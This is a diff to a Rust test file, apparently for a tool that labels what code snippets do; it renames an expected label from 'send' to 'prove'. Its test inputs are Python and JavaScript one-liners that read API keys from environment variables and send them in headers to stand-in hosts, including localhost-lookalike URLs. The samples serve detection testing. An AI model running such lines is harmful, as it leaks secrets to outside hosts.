@@ -112,11 +112,11 @@ fn what_proves_to_this_machine_who_asks_does_not_leave_it() {
             ),
             (
                 "import os, requests; requests.get('http://localhost.c.example', headers={'A': os.environ['API_KEY']})",
-                &["send ?<$API_KEY> to http://localhost.c.example", "fetch http://localhost.c.example"],
+                &["prove ?<$API_KEY> to http://localhost.c.example", "fetch http://localhost.c.example"],
             ),
             (
                 "import os, requests; requests.get('http://localhost:x@c.example', headers={'A': os.environ['API_KEY']})",
-                &["send ?<$API_KEY> to http://localhost:x@c.example", "fetch http://localhost:x@c.example"],
+                &["prove ?<$API_KEY> to http://localhost:x@c.example", "fetch http://localhost:x@c.example"],
             ),
         ],
     );
@@ -129,7 +129,7 @@ fn what_proves_to_this_machine_who_asks_does_not_leave_it() {
             ),
             (
                 "fetch('https://c.example', {headers: {Authorization: process.env.KEY}})",
-                &["send ?<$KEY> to https://c.example", "fetch https://c.example"],
+                &["prove ?<$KEY> to https://c.example", "fetch https://c.example"],
             ),
         ],
     );
